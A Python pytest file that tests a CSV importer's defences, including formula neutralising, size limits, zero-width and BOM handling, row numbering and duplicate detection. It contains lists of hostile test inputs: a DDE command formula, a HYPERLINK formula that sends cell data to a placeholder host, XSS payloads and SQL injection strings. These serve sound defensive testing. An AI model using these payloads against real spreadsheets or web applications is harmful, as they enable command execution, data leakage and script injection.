"""The importer against the attack inputs of SECURITY-CHECKLIST.md, on SQLite and PostgreSQL.

Formula cells (values and headers) are neutralised in the quarantine CSV, 10,000- and
50,000-character cells are cut or refused without harm, zero-width characters and BOMs do not
split one natural key into two, row numbers survive embedded newlines, and duplicates are set
aside, all while the data itself is stored exactly as given.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from manyi.customer.models import Customer
from manyi.feedback.models import FeedbackItem
from manyi.importing.service import import_file, neutralise_cell
from manyi.order.models import Order, OrderLine

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "@SUM(1+1)",
    "=SUM(54+51)",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "-1+1",
]
HTML_AND_SQL = [
    '"><img src=x onerror=alert(1)>',
    '"><svg/onload=prompt(1)>',
    '"><iMg SrC="x" oNeRRor="alert(1);">',
    "1'; SELECT SLEEP(5)--",
    "' OR '1'='1",
    "javascript:alert(1)",
]


def _csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _quarantine(path: Path | None) -> list[list[str]]:
    assert path is not None
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _count(sessions: sessionmaker[Session], model: type) -> int:
    with sessions() as s:
        return int(s.scalar(select(func.count()).select_from(model)) or 0)


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralise_cell_prefixes_every_formula_start(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell
    assert neutralise_cell("plain " + cell) == "plain " + cell


def test_quarantine_neutralises_values_cells_and_headers(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    header = ["order_no", "ordered_at", "amount", '=HYPERLINK("http://x","h")']
    rows = [header] + [[f, "not a date", "1", f] for f in FORMULAS]
    rows.append(["+8613800138000", "2023-02-30", "1", "+8613800138000"])
    rows.append(["ok", "2024-01-01", "1", "=SUM(1)"])
    path = _csv(tmp_path / "o.csv", rows)
    report = import_file(
        sessions=session_factory, kind="orders", path=path, quarantine_dir=tmp_path
    )
    assert (report.imported, report.set_aside_total) == (1, len(FORMULAS) + 1)
    lines = _quarantine(report.quarantine_path)
    assert lines[0] == ["row", "field", "reason", "value", "order_no", "ordered_at", "amount",
                        "'=HYPERLINK(\"http://x\",\"h\")"]  # fmt: skip
    for line in lines[1:]:
        for cell in (line[3], *line[4:]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    by_row = {int(line[0]): line for line in lines[1:]}
    assert by_row[2][4] == "'=cmd|' /C calc'!A0"
    assert by_row[len(FORMULAS) + 2][4] == "'+8613800138000"  # still readable as a number
    with session_factory() as s:  # the kept row's formula-like extra column is never executed
        assert s.scalars(select(Order.order_no)).one() == "ok"


def test_huge_cells_are_cut_or_refused_never_fatal(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    big, huge = "长" * 10_000, "x" * 50_000
    rows = [["InvoiceNo", "InvoiceDate", "StockCode", "Description", "Quantity", "UnitPrice"]]
    rows += [
        ["1", "2024-01-01", "S1", huge, "1", "1.00"],
        ["2", "2024-01-01", "S2", big, "1", "1.00"],
        [huge, "2024-01-01", "S3", "fine", "1", "1.00"],
        ["3", "2024-01-01", big, "fine", "1", "1.00"],
        ["4", huge, "S4", "fine", "1", "1.00"],
        ["5", "2024-01-01", "S5", "fine", huge, "1.00"],
    ]
    path = _csv(tmp_path / "big.csv", rows)
    report = import_file(
        sessions=session_factory, kind="orders", path=path, quarantine_dir=tmp_path
    )
    assert report.imported == 2
    assert report.set_aside == {"order_no longer than 64 characters": 1,
                                "sku longer than 64 characters": 1,
                                "ordered_at: not a valid date/time": 1,
                                "quantity: not a number": 1}  # fmt: skip
    assert report.warnings == {"longer than 300 characters: cut to 300": 2}
    lines = _quarantine(report.quarantine_path)
    assert all(len(line[3]) <= 200 for line in lines[1:])  # the reason's value is abridged
    assert max(len(c) for line in lines[1:] for c in line[4:]) == 50_000  # the row is kept whole
    with session_factory() as s:
        texts = sorted(s.scalars(select(OrderLine.description)))
        assert texts == sorted(["x" * 300, "长" * 300])


def test_huge_feedback_text_and_customer_name(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    huge = "評" * 50_000
    fb = _csv(tmp_path / "fb.csv", [["text", "date"], [huge, "2024-01-01"]])
    report = import_file(
        sessions=session_factory, kind="feedback", path=fb, quarantine_dir=tmp_path
    )
    assert report.imported == 1
    assert report.warnings == {"longer than 20000 characters: cut to 20000": 1}
    cust = _csv(tmp_path / "c.csv", [["customer_id", "name"], ["K1", "名" * 50_000]])
    report = import_file(
        sessions=session_factory, kind="customers", path=cust, quarantine_dir=tmp_path
    )
    assert report.imported == 1
    with session_factory() as s:
        assert s.scalars(select(FeedbackItem.text)).one() == "評" * 20_000
        assert s.scalars(select(Customer.name)).one() == "名" * 200


def test_zero_width_and_bom_do_not_split_a_key(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    rows = [["customer_id", "name"], ["K1", "a"], ["K\u200b1", "b"], ["\ufeffK1\u2060", "c"],
            ["K2\u200c", "d"]]  # fmt: skip
    path = _csv(tmp_path / "c.csv", rows)
    report = import_file(
        sessions=session_factory, kind="customers", path=path, quarantine_dir=tmp_path
    )
    assert report.imported == 2
    assert report.set_aside == {"customer_id repeated in the file": 2}
    with session_factory() as s:
        assert sorted(s.scalars(select(Customer.customer_code))) == ["K1", "K2"]


def test_hostile_text_stored_verbatim_and_rtl_override_kept(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    texts = [*HTML_AND_SQL, "abc\u202egpj.exe", "繁體與简体 mixed with English 👍🏽", "a\u200db"]
    rows = [["评论", "时间"]] + [[t, "2024-03-01"] for t in texts]
    path = _csv(tmp_path / "fb.csv", rows, encoding="utf-8-sig")
    report = import_file(
        sessions=session_factory, kind="feedback", path=path, quarantine_dir=tmp_path
    )
    assert report.imported == len(texts)
    with session_factory() as s:
        assert set(s.scalars(select(FeedbackItem.text))) == set(texts)


def test_row_numbers_count_records_not_lines(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    text = (
        'text,date\r\n"first\r\nsecond\nthird line",2024-01-01\r\n'
        '"ok, with ""quotes""",2024-01-02\r\nbad,2023-02-30\r\n'
    )
    path = tmp_path / "nl.csv"
    path.write_bytes(b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode("utf-8"))  # even a doubled BOM
    report = import_file(
        sessions=session_factory, kind="feedback", path=path, quarantine_dir=tmp_path
    )
    assert (report.imported, report.set_aside_total) == (2, 1)
    assert [line[:2] for line in _quarantine(report.quarantine_path)[1:]] == [["4", "received_at"]]
    with session_factory() as s:
        stored = set(s.scalars(select(FeedbackItem.text)))
    assert stored == {"first\nsecond\nthird line", 'ok, with "quotes"'}


def test_duplicate_rows_set_aside_and_reimport_adds_nothing(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    rows = [["review_id", "review", "rating", "date"], ["r1", "good", "5", "2024-01-01"],
            ["r1", "good", "5", "2024-01-01"], ["r1", "changed", "4", "2024-01-02"],
            ["", "same text", "3", "2024-01-03"], ["", "same text", "3", "2024-01-03"]]  # fmt: skip
    path = _csv(tmp_path / "d.csv", rows)
    report = import_file(
        sessions=session_factory, kind="feedback", path=path, quarantine_dir=tmp_path
    )
    assert report.imported == 2
    assert report.set_aside == {"duplicate of an earlier row": 2,
                                "same feedback id as an earlier row": 1}  # fmt: skip
    q = {line[0]: line[3] for line in _quarantine(report.quarantine_path)[1:]}
    assert q["3"] == "duplicate of row 2" and q["6"] == "duplicate of row 5"
    again = import_file(
        sessions=session_factory, kind="feedback", path=path, quarantine_dir=tmp_path
    )
    assert (again.imported, again.already_present) == (0, 2)
    assert _count(session_factory, FeedbackItem) == 2
